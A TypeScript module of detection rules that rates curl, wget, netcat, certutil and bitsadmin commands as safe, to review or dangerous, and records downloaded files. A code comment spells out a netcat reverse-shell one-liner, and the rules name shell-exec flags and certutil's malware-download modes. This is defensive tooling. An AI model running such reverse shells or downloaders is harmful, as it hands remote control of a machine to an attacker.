/** Programs that talk to the network: downloads are tracked so running them later is caught. */
import { has, value } from "../args";
import { programName, SHELLS } from "../wrappers";
import { f, shown, writeFinding, type Finding, type Rule } from "./finding";

export const curl: Rule = (cmd, a, ctx) => {
  const out: Finding[] = [];
  const file = value(a, "-o", "--output");
  if (file) ctx.downloaded.add(file.literal ?? file.text);
  if (has(a, "O", "--remote-name")) for (const u of a.operands) ctx.downloaded.add(basenameOfUrl(u.text));
  const onto = file ? writeFinding(cmd, file, "downloads over", ctx.workspace) : null;
  if (onto?.risk === "dangerous") out.push(onto);
  else if (file || has(a, "O", "--remote-name"))
    out.push(f("review", cmd, `downloads into ${file ? shown(file) : "a file"}`));
  const method = value(a, "-X", "--request")?.text.toUpperCase();
  if (
    has(
      a,
      "d",
      "--data",
      "--data-raw",
      "--data-binary",
      "--data-urlencode",
      "F",
      "--form",
      "T",
      "--upload-file",
      "--json",
    ) ||
    (method && method !== "GET" && method !== "HEAD")
  ) {
    out.push(f("review", cmd, "sends data to a remote service, which can change state there"));
  }
  return out.length > 0 ? out : [f("safe", cmd, "only downloads and prints")];
};

export function basenameOfUrl(u: string): string {
  const path = u.replace(/[?#].*$/, "");
  return path.slice(path.lastIndexOf("/") + 1) || "index.html";
}

export const wget: Rule = (cmd, a, ctx) => {
  const out = value(a, "-O", "--output-document");
  if (out && (out.text === "-" || out.text === "/dev/stdout")) return [f("safe", cmd, "only downloads and prints")];
  if (out) ctx.downloaded.add(out.literal ?? out.text);
  else for (const u of a.operands) ctx.downloaded.add(basenameOfUrl(u.text));
  const onto = out ? writeFinding(cmd, out, "downloads over", ctx.workspace) : null;
  if (onto?.risk === "dangerous") return [onto];
  return [f("review", cmd, `downloads into ${out ? shown(out) : "a file"}`)];
};

export const netcat: Rule = (cmd, a) => {
  if (has(a, "e", "c", "--exec", "--sh-exec", "--lua-exec"))
    return [f("dangerous", cmd, "gives whoever connects a shell on this machine")];
  // `cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f`: a shell's output goes out, and (through the fifo) its input comes back.
  const shell = cmd.upstream.find((u) => SHELLS.has(programName(u.argv[0])));
  if (shell)
    return [
      f(
        "dangerous",
        cmd,
        `connects the shell \`${shell.source}\` to ${a.operands.map(shown).join(" ") || "the network"} (a reverse shell)`,
      ),
    ];
  return [f("review", cmd, "opens a network connection")];
};

/** Windows' `certutil`: also a downloader (`-urlcache -f URL FILE`) and a base64 decoder, both common in malware droppers. */
export const certutil: Rule = (cmd, a, ctx) => {
  const flags = a.texts.filter((t) => /^[-/]/.test(t)).map((t) => t.slice(1).toLowerCase());
  const plain = a.texts.filter((t) => !/^[-/]/.test(t));
  const dest = plain[plain.length - 1];
  if (flags.some((x) => x === "urlcache" || x === "verifyctl")) {
    const url = plain.find((t) => /^[a-z]+:\/\//i.test(t)) ?? "a URL";
    if (dest && dest !== url) ctx.downloaded.add(dest);
    return [
      f(
        "review",
        cmd,
        `downloads ${url}${dest && dest !== url ? ` into ${dest}` : ""} (certutil is a common way to fetch malware)`,
      ),
    ];
  }
  if (flags.some((x) => x === "decode" || x === "decodehex")) {
    if (dest) ctx.downloaded.add(dest);
    return [f("review", cmd, `decodes ${plain[0] ?? "a file"} into ${dest ?? "a file"}`)];
  }
  if (flags.some((x) => x === "hashfile" || x === "dump" || (x === "store" && plain.length === 0)))
    return [f("safe", cmd, "only reads")];
  return [f("review", cmd, "changes certificates or system settings (certutil)")];
};

/** Windows' `bitsadmin /transfer NAME URL FILE`: a background downloader. */
export const bitsadmin: Rule = (cmd, a, ctx) => {
  const texts = a.texts;
  if (texts.some((t) => /^[-/](transfer|addfile|download)$/i.test(t))) {
    const dest = texts[texts.length - 1];
    const url = texts.find((t) => /^[a-z]+:\/\//i.test(t)) ?? "a URL";
    if (dest && dest !== url) ctx.downloaded.add(dest);
    return [
      f("review", cmd, `downloads ${url}${dest && dest !== url ? ` into ${dest}` : ""} in the background (bitsadmin)`),
    ];
  }
  if (texts.some((t) => /^[-/](list|info|monitor|getstate)$/i.test(t)))
    return [f("safe", cmd, "only lists download jobs")];
  return [f("review", cmd, "manages background download jobs (bitsadmin)")];
};
